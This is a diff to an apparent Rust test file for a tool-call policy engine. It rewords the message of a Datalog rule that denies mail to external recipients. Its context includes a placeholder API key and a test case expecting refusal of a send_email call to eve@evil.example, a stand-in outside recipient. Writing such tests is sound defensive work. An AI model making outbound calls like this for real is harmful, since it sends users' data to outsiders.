@@ -13,8 +13,8 @@ use server::{Api, Reply, Server, error};
 /// A key that no other text has in it.
 const KEY: &str = "sk-portcullis-0123456789abcdef";
 
-/// What the grammar cannot read.
-const SENTENCE: &str = "Outsiders have no business in our mail";
+/// What no grammar will ever read.
+const SENTENCE: &str = "Our letters are lanterns and outsiders are moths, so let no moth near a lantern";
 
 const CASES: &str = r#"{"cases": [
   {"expect": "refuse", "call": {"server": "gmail", "tool": "send_email", "arguments": {"to": ["eve@evil.example"], "subject": "s", "body": "b"}}},
@@ -63,7 +63,7 @@ fn a_proposal_is_shown_with_what_it_says_and_does() {
   model-x (anthropic, 127.0.0.1) proposes a rule, which is not in force; read what it says
 
   as Datalog
-    deny("Outsiders have no business in our mail") :- did("mail"), output(F, T), realm(T, "external").
+    deny("Our letters are lanterns and outsiders are moths, so let no moth near a lantern") :- did("mail"), output(F, T), realm(T, "external").
 
   which says
     Refused is a call of which all of this holds:
